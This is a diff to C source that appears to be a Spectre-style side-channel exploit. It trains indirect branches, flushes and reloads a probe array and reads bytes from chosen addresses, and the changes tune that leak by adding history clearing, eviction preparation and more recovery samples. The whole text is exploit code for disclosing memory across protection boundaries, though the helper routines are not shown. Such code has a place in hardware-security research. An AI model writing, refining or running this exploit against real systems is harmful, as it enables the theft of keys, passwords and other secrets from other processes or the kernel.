@@ -18,12 +18,12 @@ static int read_byte(uint64_t address)
 {
 	const uint8_t *probe = array + SHARED_PROBE;
 
-	send_for_receiving();
+	begin_receiving(address);
+	forget_histories();
 	for (int i = 0; i < options.branches.count; i++)
 		train(branches[i], disclosure);
 	flush_probe(probe);
-	leave_history(next_random());
-	receive_with(address);
+	end_receiving();
 	return reload_probe(probe);
 }
 
@@ -42,14 +42,15 @@ int main(int argc, char **argv)
 	array = map_gadget(options.gadget);
 	catch_faults();
 	calibrate();
+	prepare_eviction();
 	prepare_receiving();
 	for (int i = 0; i < options.branches.count; i++)
 		branches[i] = place_branch(options.branches.at[i], INDIRECT_JUMP);
 	for (int i = 0; i < options.disclosures.count; i++) {
 		disclosure = options.disclosures.at[i];
-		if (reads_known_byte(read_byte))
+		if (reads_known_byte(read_byte, array + SHARED_KNOWN))
 			break;
 	}
-	recover(sample, (struct patience){ .samples = 8, .lead = 2 }, 1);
+	recover(sample, (struct patience){ .samples = 16, .lead = 2 }, 1);
 	return 0;
 }
